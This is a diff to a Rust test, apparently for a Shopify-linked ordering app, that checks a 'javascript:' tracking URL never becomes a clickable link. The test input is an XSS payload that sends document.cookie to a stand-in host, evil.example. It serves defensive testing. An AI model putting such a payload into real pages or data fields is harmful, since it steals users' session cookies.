@@ -187,13 +187,18 @@ async fn console_responses_forbid_framing_sniffing_and_inline_script(backend: Ba
 
 async fn a_javascript_tracking_url_never_becomes_a_link(backend: Backend) {
     let line = line(backend, &[("verify", "none"), ("agent_token", AGENT)]).await;
-    let mut order = line.latest_order("Dana");
-    assert!(!order.fulfillments.is_empty(), "the demo's latest order is shipped");
-    for f in &mut order.fulfillments {
-        f.tracking_url = Some("javascript:fetch('//evil.example/'+document.cookie)".into());
-        f.updated_at += chrono::Duration::seconds(5);
-    }
-    order.updated_at += chrono::Duration::seconds(5);
+    let latest = line.latest_order("Dana");
+    assert!(latest.fulfillments.iter().any(|f| f.tracking_url.is_some()), "the demo's latest order is tracked");
+    // In Shopify (the emulator) and in the store, as a webhook would have it.
+    let order = line
+        .sim
+        .change_order(latest.id, |o| {
+            for f in &mut o.fulfillments {
+                f.tracking_url = Some("javascript:fetch('//evil.example/'+document.cookie)".into());
+                f.updated_at += chrono::Duration::seconds(5);
+            }
+        })
+        .unwrap();
     let change = ShopifyChange::Order(Box::new(order.clone()));
     line.app.store().apply_all(SHOP, &[change], "US", Ts::from(Utc::now())).await.unwrap();
     let t = line.call("+15551234567", &["0"]).await;
@@ -209,6 +214,7 @@ async fn a_javascript_tracking_url_never_becomes_a_link(backend: Backend) {
         .unwrap();
     assert_eq!(card["orders"][0]["name"], order.name);
     assert_eq!(card["orders"][0]["tracking_url"], serde_json::Value::Null, "{card}");
+    assert!(card["orders"][0]["tracking_number"].is_string(), "the order is still tracked: {card}");
     line.app.stop().await;
 }
 
